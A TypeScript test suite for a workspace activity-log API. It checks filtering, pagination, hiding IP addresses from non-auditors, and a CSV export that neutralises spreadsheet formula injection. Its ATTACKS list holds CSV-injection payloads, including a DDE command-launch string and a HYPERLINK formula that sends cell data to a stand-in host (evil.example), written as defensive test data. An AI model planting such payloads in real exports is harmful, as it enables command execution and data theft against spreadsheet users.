import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TestKernel, testKernel, testWorkspace } from '../../test/harness/database.ts';
import { until } from '../../test/harness/until.ts';
import { readActivity, record, recordAll } from './activity.ts';
import { activityLog, type LoggedFactPage, registerActivityRoutes } from './activity-log.ts';
import { inWorkspace } from './database/database.ts';
import type { Permission } from './http/route.ts';
import { createHttp, type Http } from './http/server.ts';
import { newId } from './ids.ts';
import { createLeases } from './leases.ts';
import { type Actor, mintScope, type Scope } from './scope.ts';
import { createSealer } from './sealer.ts';

let kernel: TestKernel;
let http: Http;
let scope: Scope;
let stop: () => Promise<void>;

const KEY: Actor = { kind: 'api_key', id: newId() };
const THING = newId();
/** Facts of many kinds, and then the steps of messages, more than one read of the export takes. */
const [FEW, MANY] = [26, 1_100];
/** What people have written into names to have a spreadsheet run it. */
const ATTACKS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example?x="&A1;"Click")',
  '"=1+1',
  '","=1+1","',
  '"\r\n=1+1,',
  `'=1+1`,
];

beforeAll(async () => {
  kernel = await testKernel();
  const leases = createLeases(kernel);
  const sealer = createSealer(kernel, leases);
  sealer.start();
  http = await createHttp(kernel, {
    enter: async (request, permission) => {
      const may = (wanted: Permission) =>
        wanted === 'activity.read' || request.headers['x-who'] === 'auditor';
      if (!may(permission)) throw new Error('The route let somebody in who may not.');
      return mintScope(kernel, scope.workspaceId, scope.actor, { may });
    },
    user: async () => newId(),
  });
  registerActivityRoutes(http, async (_scope, ids) => new Map(ids.map(id => [id, `name of ${id}`])));
  await http.app.ready();
  const { workspaceId, actor } = await testWorkspace(kernel);
  scope = mintScope(kernel, workspaceId, actor, { address: '203.0.113.7' });
  const byKey = mintScope(kernel, workspaceId, KEY);
  const tell = (by: Scope, type: string, id: string, payload: object) =>
    inWorkspace(by, tx => record(tx, by, { type, subject: { type: 'thing', id }, payload }));
  await tell(scope, 'thing.created', THING, { label: 'a' });
  await tell(scope, 'thing.renamed', THING, { before: 'a', after: { label: 'b' } });
  await tell(byKey, 'message.sent', newId(), {});
  await tell(byKey, 'thing.created', newId(), {});
  await tell(byKey, 'thin.made', newId(), {});
  for (const attack of ATTACKS) await tell(scope, 'attack.told', newId(), { before: attack, after: '' });
  await inWorkspace(mintScope(kernel, workspaceId, { kind: 'system' }), async tx => {
    const by = { workspaceId, actor: { kind: 'system' } } as const;
    const facts = Array.from({ length: MANY }, () => ({ ...by, type: 'message.read', payload: {} }));
    await recordAll(
      tx,
      facts.map(fact => ({ ...fact, subject: { type: 'message', id: newId() } })),
    );
  });
  await until(async () => (await readActivity(scope, { limit: 1 }))[0]?.seq === FEW + MANY);
  const connection = await kernel.database.engine.acquire();
  await connection.script('analyze activity').finally(() => connection.release());
  stop = async () => {
    await sealer.stop();
    await leases.stop();
  };
});
afterAll(async () => {
  await http.close();
  await stop();
  await kernel.close();
});

const AUDITOR = { 'x-who': 'auditor' };
const get = (query: string, headers: Record<string, string> = {}) =>
  http.app.inject({ url: `/v1/activity${query}`, headers });
const page = async (query: string, headers: Record<string, string> = {}) =>
  (await get(query, headers)).json<LoggedFactPage>();
const typesOf = async (query: string) => (await page(query)).data.map(fact => fact.type);

describe('the log of what happened', () => {
  it('names who, from where, before and after', async () => {
    const { data } = await page('?type=thing.renamed', AUDITOR);
    const { id } = scope.actor as { id: string };
    expect(data).toEqual([
      {
        seq: 2,
        id: expect.any(String),
        type: 'thing.renamed',
        actor: { kind: 'user', id, name: `name of ${id}` },
        address: '203.0.113.7',
        subject: { type: 'thing', id: THING },
        payload: { before: 'a', after: { label: 'b' } },
        occurred_at: expect.any(String),
      },
    ]);
  });

  it('keeps addresses from those who may not look into them', async () => {
    expect((await page('?type=thing.renamed')).data[0]).toMatchObject({ seq: 2, address: null });
  });

  it('is filtered by type, beginning of a type, actor and subject', async () => {
    expect(await typesOf('?type=thing.created')).toEqual(['thing.created', 'thing.created']);
    expect(await typesOf('?type=thing.')).toEqual(['thing.created', 'thing.renamed', 'thing.created']);
    expect(new Set(await typesOf('?type=message.'))).toEqual(new Set(['message.read']));
    expect(await typesOf('?type=message.sent')).toEqual(['message.sent']);
    expect(await typesOf('?type=thin.')).toEqual(['thin.made']);
    expect(await typesOf(`?actor_id=${KEY.id}`)).toEqual(['thin.made', 'thing.created', 'message.sent']);
    expect(await typesOf(`?actor_id=${KEY.id}&type=thing.`)).toEqual(['thing.created']);
    expect(await typesOf(`?subject_id=${THING}`)).toEqual(['thing.renamed', 'thing.created']);
    expect((await get('?type=%25')).statusCode).toBe(422);
  });

  it('is filtered by instants, the first included and the last not', async () => {
    const [at] = (await page('?type=thin.made')).data.map(fact => fact.occurred_at);
    const later = new Date(Date.parse(at ?? '') + 1).toISOString();
    expect(await typesOf(`?type=thin.made&from=${at}&to=${later}`)).toEqual(['thin.made']);
    expect(await typesOf(`?type=thin.made&from=${later}`)).toEqual([]);
    expect(await typesOf(`?type=thin.made&to=${at}`)).toEqual([]);
    expect((await get('?from=yesterday')).statusCode).toBe(422);
  });

  it('comes in pages that miss nothing and repeat nothing', async () => {
    const seqs: number[] = [];
    for (let cursor = ''; ; ) {
      const { data, page: next } = await page(`?limit=200${cursor}`);
      seqs.push(...data.map(fact => fact.seq));
      if (next.next_cursor === null) break;
      cursor = `&cursor=${next.next_cursor}`;
    }
    expect(seqs).toEqual(Array.from({ length: FEW + MANY }, (_, n) => FEW + MANY - n));
  });

  it('is found through an index, whatever it is filtered by', async () => {
    const queries = [
      {},
      { type: 'thing.created' },
      { type: 'thing.' },
      { subject_id: THING },
      { actor_id: KEY.id },
    ];
    const plans: string[] = [];
    await inWorkspace(scope, async tx => {
      for (const filter of queries) {
        const plan = await activityLog
          .select(tx, scope.workspaceId, filter, { limit: 5, before: newId() })
          .explain();
        plans.push(JSON.stringify(plan));
      }
    });
    const used = ['pkey', 'type', 'type', 'subject', 'actor'];
    for (const [at, plan] of plans.entries()) expect(plan).toMatch(new RegExp(`Scan[^"]*(${used[at]})`));
  });
});

/** Reads CSV by RFC 4180, character by character, as another program would. */
function parseCsv(text: string): string[][] {
  const lines: string[][] = [];
  let [line, cell, quoted]: [string[], string, boolean] = [[], '', false];
  for (let at = 0; at < text.length; at++) {
    const char = text[at];
    if (quoted && char === '"' && text[at + 1] === '"') cell += text[at++];
    else if (char === '"') quoted = !quoted;
    else if (quoted || (char !== ',' && char !== '\r' && char !== '\n')) cell += char;
    else if (char === ',') {
      line.push(cell);
      cell = '';
    } else if (char === '\r' && text[++at] === '\n') {
      lines.push([...line, cell]);
      [line, cell] = [[], ''];
    } else throw new Error(`A line break without its other half at ${at}.`);
  }
  if (quoted || cell !== '' || line.length > 0) throw new Error('The last line is not whole.');
  return lines;
}

describe('the log as a file', () => {
  it('is read back by a parser as it was, with its filters', async () => {
    const answer = await get('/export.csv?type=thing.', AUDITOR);
    expect(answer.headers['content-type']).toContain('text/csv');
    expect(answer.headers['content-disposition']).toMatch(
      /^attachment; filename="activity-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const [header, ...lines] = parseCsv(answer.body);
    const records = lines.map(line => Object.fromEntries((header ?? []).map((name, at) => [name, line[at]])));
    expect(records.map(record => record.seq)).toEqual(['4', '2', '1']);
    expect(records[1]).toMatchObject({
      type: 'thing.renamed',
      actor_kind: 'user',
      address: '203.0.113.7',
      before: 'a',
      after: '{"label":"b"}',
    });
    expect(JSON.parse(records[1]?.payload ?? '')).toEqual({ before: 'a', after: { label: 'b' } });
  });

  it('has nothing in it that a spreadsheet would run', async () => {
    const answer = await get('/export.csv?type=attack.told', AUDITOR);
    const lines = parseCsv(answer.body);
    expect(lines.map(line => line.length)).toEqual(lines.map(() => 13));
    const before = lines.slice(1).map(line => line[10] ?? '');
    for (const line of lines)
      for (const cell of line) expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
    for (const cell of before) expect(cell).not.toMatch(/^[\t\r\n]/);
    // What is no formula stays untouched, and what is one can be told from it by its apostrophe.
    const told = [...ATTACKS].reverse();
    expect(before.map((cell, at) => (cell === told[at] ? cell : cell.slice(1)))).toEqual(told);
    expect(before.filter((cell, at) => cell === told[at])).toEqual([
      `'=1+1`,
      '"\r\n=1+1,',
      '","=1+1","',
      '"=1+1',
    ]);
  });

  it('holds more than one read of the database', async () => {
    const lines = parseCsv((await get('/export.csv?type=message.read', AUDITOR)).body).slice(1);
    expect(lines.map(line => Number(line[0]))).toEqual(
      Array.from({ length: MANY }, (_, n) => FEW + MANY - n),
    );
  });

  it('is closed to those who may not look into addresses', async () => {
    expect((await get('/export.csv')).statusCode).toBe(500);
    expect(
      (await http.app.inject({ method: 'HEAD', url: '/v1/activity/export.csv', headers: AUDITOR })).body,
    ).toBe('');
  });
});
